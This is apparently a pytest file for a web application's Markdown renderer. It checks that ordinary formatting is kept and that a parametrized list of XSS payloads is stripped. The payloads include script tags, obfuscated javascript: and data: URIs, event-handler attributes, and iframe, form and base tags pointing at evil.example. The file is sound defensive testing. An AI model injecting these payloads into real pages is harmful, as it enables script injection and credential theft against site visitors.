"""Texts of authors are shown as Markdown and run nothing."""

from html.parser import HTMLParser

import pytest

from web.markdown import markdown


class Seen(HTMLParser):
    """The tags, the names of attributes and the addresses of a page, as a browser reads them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags, self.names, self.addresses = set[str](), set[str](), list[str]()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.names |= {name for name, _ in attrs}
        self.addresses += [value or "" for name, value in attrs if name in {"href", "src"} and value != "x"]


def test_markdown_is_shown_as_html():
    html = markdown(
        "# Knots\n\nThe *king* of **knots**.\n\n1. one\n2. two\n\n```\na < b\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    )

    assert "<h2>Knots</h2>" in html
    assert "The <em>king</em> of <strong>knots</strong>." in html
    assert "<li>one</li>" in html
    assert "a &lt; b" in html
    assert "<td>1</td>" in html


def test_links_and_pictures_of_the_web_are_kept():
    html = markdown("[site](https://example.com/a?b=1&c=2) ![picture](https://example.com/1.png) H<sub>2</sub>O")

    assert 'href="https://example.com/a?b=1&amp;c=2" rel="nofollow noopener noreferrer"' in html
    assert '<img src="https://example.com/1.png" alt="picture">' in html
    assert "H<sub>2</sub>O" in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](java\nscript:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click]: javascript:alert(1)\n\n[click]",
        "<javascript:alert(1)>",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "[click](vbscript:msgbox)",
        "<a href='javascript:alert(1)'>click</a>",
        "<a href='https://example.com' onclick='alert(1)' style='position:fixed'>click</a>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<iframe src='https://evil.example'></iframe>",
        "<form action='https://evil.example'><input name=password></form>",
        "<style>body { display: none }</style>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<base href='https://evil.example'>",
        "<p class='button' id='x' data-a='b'>text</p>",
    ],
)
def test_script_and_foreign_markup_are_removed(text: str):
    seen = Seen()
    seen.feed(markdown(text))

    assert seen.tags <= {"p", "a", "img", "table"}
    assert seen.names <= {"href", "src", "alt", "title", "rel"}
    assert all(address.startswith("https://") for address in seen.addresses)


def test_deep_nesting_ends():
    assert "<blockquote>" in markdown("> " * 5000 + "deep")
